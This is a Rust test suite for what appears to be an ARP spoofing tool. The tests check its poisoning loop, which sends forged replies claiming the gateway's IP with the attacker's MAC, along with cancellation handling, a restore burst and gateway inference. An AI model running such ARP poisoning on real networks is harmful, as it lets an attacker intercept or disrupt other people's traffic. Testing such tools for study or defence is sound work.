use desolate::attack::{
    attack_state, duration_ms, poison_frame, restore_burst, restore_frame, LoopState,
    ATTACK_INTERVAL_MS, RESTORE_COUNT, RESTORE_INTERVAL_MS,
};
use desolate::codec::{decode, encode, ArpOperation, Endpoint};
use desolate::gate::{Acquire, ExclusionGate};
use desolate::resolver::{ResolveStep, Resolver, RESOLVE_TIMEOUT_MS};
use desolate::setup::{check_interface, infer_gateway, network_address, SetupError};

const OWN_MAC: [u8; 6] = [2, 0, 0, 0, 0, 50];

fn gateway() -> Endpoint {
    Endpoint { ip: [192, 168, 1, 1], mac: [0x00, 0x11, 0x22, 0x33, 0x44, 0x55] }
}

fn target() -> Endpoint {
    Endpoint { ip: [192, 168, 1, 77], mac: [0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff] }
}

/// Runs the poisoning loop on a virtual clock; returns the phases of the frames sent.
fn run_attack(gate: &mut ExclusionGate, duration: u64, cancel_at: Option<u64>) -> Vec<Vec<u8>> {
    let mut sent = Vec::new();
    let mut now: u64 = 0;
    loop {
        if cancel_at.map_or(false, |c| now >= c) && !gate.is_cancelled() {
            gate.cancel();
        }
        match attack_state(now, duration, gate.is_cancelled()) {
            LoopState::Running => {}
            _ => break,
        }
        match gate.try_acquire_attack() {
            Acquire::Granted => {
                sent.push(poison_frame(&gateway().ip, &OWN_MAC, &target()));
                gate.record_send();
                gate.release();
                now += ATTACK_INTERVAL_MS;
            }
            Acquire::Busy => now += 1,
            Acquire::Closed => break,
        }
    }
    sent
}

fn run_restore(gate: &mut ExclusionGate, interrupted: bool) -> Vec<Vec<u8>> {
    let mut sent = Vec::new();
    if gate.try_claim_restore(interrupted) != Acquire::Granted {
        return sent;
    }
    for f in restore_burst(&gateway(), &target()) {
        sent.push(f);
        gate.record_send();
    }
    gate.release();
    sent
}

#[test]
fn forced_macs_three_second_attack_then_restore() {
    let own = check_interface(Some([192, 168, 1, 50]), Some(OWN_MAC)).unwrap();
    assert_eq!(infer_gateway(own.ip, 24), Some([192, 168, 1, 1]));
    let mut gate = ExclusionGate::new();
    let attack = run_attack(&mut gate, duration_ms(3), None);
    assert_eq!(attack.len(), 3);
    assert_eq!(gate.attack_sent(), 3);
    for f in &attack {
        let m = decode(f).unwrap();
        assert_eq!(m.operation, 2);
        assert_eq!(m.sender.ip, [192, 168, 1, 1]);
        assert_eq!(m.sender.mac, OWN_MAC);
        assert_eq!(m.target.ip, [192, 168, 1, 77]);
    }
    let restore = run_restore(&mut gate, false);
    assert_eq!(restore.len(), 10);
    assert_eq!(gate.restore_sent(), 10);
    assert_eq!(RESTORE_INTERVAL_MS, 500);
    for f in &restore {
        let m = decode(f).unwrap();
        assert_eq!(m.sender.mac, gateway().mac);
    }
}

#[test]
fn interrupt_mid_attack_restores_once() {
    let mut gate = ExclusionGate::new();
    let attack = run_attack(&mut gate, duration_ms(60), Some(2500));
    assert_eq!(attack.len(), 3);
    assert!(gate.is_cancelled());
    assert_eq!(attack_state(2500, 60000, true), LoopState::Cancelled);
    let restore = run_restore(&mut gate, true);
    assert_eq!(restore.len(), 10);
    assert_eq!(gate.try_claim_restore(true), Acquire::Closed);
    assert_eq!(gate.try_claim_restore(false), Acquire::Closed);
    assert_eq!(gate.try_acquire_attack(), Acquire::Closed);
}

#[test]
fn natural_end_after_cancel_leaves_restore_to_interrupt() {
    let mut gate = ExclusionGate::new();
    gate.cancel();
    assert_eq!(gate.try_claim_restore(false), Acquire::Closed);
    assert_eq!(gate.try_claim_restore(true), Acquire::Granted);
}

#[test]
fn restore_waits_while_attack_holds_gate_then_closes_it() {
    let mut gate = ExclusionGate::new();
    assert_eq!(gate.try_acquire_attack(), Acquire::Granted);
    assert_eq!(gate.record_send(), 1);
    gate.cancel();
    assert_eq!(gate.try_claim_restore(true), Acquire::Busy);
    gate.release();
    assert_eq!(gate.try_claim_restore(true), Acquire::Granted);
    assert_eq!(gate.try_acquire_attack(), Acquire::Closed);
    assert_eq!(gate.record_send(), 1);
    assert_eq!(gate.attack_sent(), 1);
    assert_eq!(gate.restore_sent(), 1);
}

#[test]
fn attack_busy_while_restore_holds_gate() {
    let mut gate = ExclusionGate::new();
    assert_eq!(gate.try_claim_restore(false), Acquire::Granted);
    assert_eq!(gate.try_acquire_attack(), Acquire::Closed);
}

#[test]
fn restore_burst_twice_gives_two_identical_full_bursts() {
    let a = restore_burst(&gateway(), &target());
    let b = restore_burst(&gateway(), &target());
    assert_eq!(a.len(), RESTORE_COUNT);
    assert_eq!(b.len(), 10);
    assert_eq!(a, b);
    let one = restore_frame(&gateway(), &target());
    assert!(a.iter().all(|f| *f == one));
    assert_eq!(one, encode(ArpOperation::Reply, &gateway(), &target()));
}

#[test]
fn zero_duration_expires_at_once() {
    assert_eq!(attack_state(0, 0, false), LoopState::Expired);
    assert_eq!(attack_state(999, 1000, false), LoopState::Running);
    assert_eq!(attack_state(1000, 1000, false), LoopState::Expired);
    let mut gate = ExclusionGate::new();
    assert!(run_attack(&mut gate, 0, None).is_empty());
}

#[test]
fn durations_in_milliseconds() {
    assert_eq!(duration_ms(60), 60000);
    assert_eq!(duration_ms(0), 0);
    assert_eq!(duration_ms(u64::MAX), u64::MAX);
}

#[test]
fn resolver_returns_first_matching_reply() {
    let r = Resolver::new([192, 168, 1, 1]);
    assert_eq!(r.timeout_ms, RESOLVE_TIMEOUT_MS);
    let noise = encode(ArpOperation::Reply, &target(), &gateway());
    let reply = encode(ArpOperation::Reply, &gateway(), &target());
    let other = Endpoint { ip: [192, 168, 1, 1], mac: [9, 9, 9, 9, 9, 9] };
    let late = encode(ArpOperation::Reply, &other, &target());
    let channel: Vec<(u64, Option<&[u8]>)> = vec![
        (0, None),
        (100, Some(&[1u8, 2, 3][..])),
        (200, Some(&noise[..])),
        (300, Some(&reply[..])),
        (400, Some(&late[..])),
    ];
    let mut found = None;
    for (at, frame) in channel {
        match r.step(at, frame) {
            ResolveStep::Resolved(m) => {
                found = Some((at, m));
                break;
            }
            ResolveStep::Waiting => {}
            ResolveStep::TimedOut => break,
        }
    }
    assert_eq!(found.map(|f| f.0), Some(300));
    assert_eq!(found.map(|f| f.1), Some(gateway().mac));
}

#[test]
fn resolver_times_out_exactly_at_the_boundary() {
    let r = Resolver::new([192, 168, 1, 1]);
    let reply = encode(ArpOperation::Reply, &gateway(), &target());
    assert!(matches!(r.step(9999, None), ResolveStep::Waiting));
    assert!(matches!(r.step(10000, None), ResolveStep::TimedOut));
    assert!(matches!(r.step(10000, Some(&reply[..])), ResolveStep::TimedOut));
    assert!(matches!(r.step(9999, Some(&reply[..])), ResolveStep::Resolved(_)));
}

#[test]
fn interface_checks() {
    assert_eq!(check_interface(None, Some(OWN_MAC)).unwrap_err(), SetupError::NoIpv4);
    assert_eq!(check_interface(Some([127, 0, 0, 1]), Some(OWN_MAC)).unwrap_err(), SetupError::Loopback);
    assert_eq!(check_interface(Some([10, 0, 0, 2]), None).unwrap_err(), SetupError::NoMac);
    let e = check_interface(Some([10, 0, 0, 2]), Some(OWN_MAC)).unwrap();
    assert_eq!(e.ip, [10, 0, 0, 2]);
    assert_eq!(e.mac, OWN_MAC);
    assert_eq!(SetupError::Loopback.message(), "*interface is loopback*");
}

#[test]
fn gateway_inference() {
    assert_eq!(network_address([10, 1, 130, 7], 20), [10, 1, 128, 0]);
    assert_eq!(network_address([10, 1, 130, 7], 0), [0, 0, 0, 0]);
    assert_eq!(network_address([10, 1, 130, 7], 32), [10, 1, 130, 7]);
    assert_eq!(infer_gateway([172, 16, 5, 9], 16), Some([172, 16, 0, 1]));
    assert_eq!(infer_gateway([10, 0, 0, 255], 32), None);
}
